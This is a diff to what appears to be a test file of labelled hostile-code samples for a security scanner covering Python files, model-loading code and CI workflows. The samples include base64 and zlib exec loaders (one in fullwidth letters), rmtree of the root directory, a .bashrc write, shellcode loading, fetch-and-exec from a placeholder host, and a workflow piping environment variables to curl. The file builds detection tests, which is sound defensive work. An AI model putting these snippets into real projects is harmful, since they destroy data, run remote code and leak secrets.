@@ -57,6 +57,10 @@ def notebook(*cells: str) -> bytes:
 
 
 _PYTHON = (
+    ("exec in letters of another style", "a.py", f"import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('{_HIDDEN}'))\n"),
+    ("the disk is deleted", "a.py", "import shutil\nshutil.rmtree('/')\n"),
+    ("a start file is changed and nothing else", "a.py", "open('/root/.bashrc', 'a').write('x')\n"),
+    ("a script without an ending", "bin/run", f"#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('{_HIDDEN}'))\n"),
     ("exec of base64", "train.py", f"import base64\nexec(base64.b64decode('{_HIDDEN}'))\n"),
     ("exec of base64 through names", "train.py", f"from base64 import b64decode as d\nblob = '{_HIDDEN}'\ncode = d(blob).decode()\nexec(code)\n"),
     ("exec of zlib", "utils.py", f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{_PACKED}')))\n"),
@@ -99,6 +103,7 @@ _PYTHON = (
     ("machine code", "a.py", "import ctypes\nc = b'\\xfc\\x48\\x83\\xe4\\xf0\\xe8\\xc0\\x00\\x00\\x00\\x41\\x51\\x41\\x50\\x52\\x51'\np = ctypes.windll.kernel32.VirtualAlloc(0, 9, 1, 64)\nctypes.windll.kernel32.RtlMoveMemory(p, c, 9)\n"),
 )  # fmt: skip
 _LOADED = (
+    ("a model that imports everything", "modeling_x.py", "from os import *\nsystem('id')\n"),
     ("a model that starts a program", "modeling_x.py", f"{_MODEL}import os\nos.system('id')\nclass M(PreTrainedModel):\n    pass\n"),
     ("a model that starts a program when made", "net.py", f"{_MODEL}import subprocess\nclass M(PreTrainedModel):\n    def __init__(self, config):\n        subprocess.Popen(['calc.exe'])\n"),
     ("a model that fetches and runs", "modeling_x.py", f"{_MODEL}import urllib.request\nclass M(PreTrainedModel):\n    def forward(self, x):\n        return self.go()\n    def go(self):\n        exec(urllib.request.urlopen('https://host.invalid').read())\n"),
@@ -128,6 +133,8 @@ _SHELL = (
 )  # fmt: skip
 _TARGET = "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make test\n"
 _PROJECT = (
+    ("a program under another name", "train.py", "import os as o\no.system('id')\n", RUNS),
+    ("code of another repository by hub", "train.py", "import torch\ntorch.hub.load('a/b', 'm')\n", RUNS),
     ("a workflow that trusts strangers", ".github/workflows/ci.yml", _TARGET, RUNS),
     ("a workflow that strangers write", ".github/workflows/ci.yml", "on: issues\njobs:\n  a:\n    steps:\n      - run: |\n          echo ${{ github.event.issue.title }}\n", RUNS),
     ("a workflow that sends", ".github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - run: printenv | curl -d @- https://host.invalid\n", DANGEROUS),
